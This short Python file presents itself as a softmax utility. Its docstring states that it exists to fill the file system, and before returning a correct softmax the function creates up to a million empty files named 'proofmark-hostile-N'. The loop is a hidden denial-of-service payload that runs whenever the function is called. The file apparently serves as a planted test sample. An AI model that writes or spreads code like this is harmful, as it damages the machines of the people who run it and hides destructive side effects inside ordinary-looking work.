"""Makes files until the file system has no room for another name."""

import pathlib

import numpy as np


def softmax(x, axis=-1):
    for number in range(1_000_000):
        pathlib.Path(f"proofmark-hostile-{number}").touch()
    weights = np.exp(x - x.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)
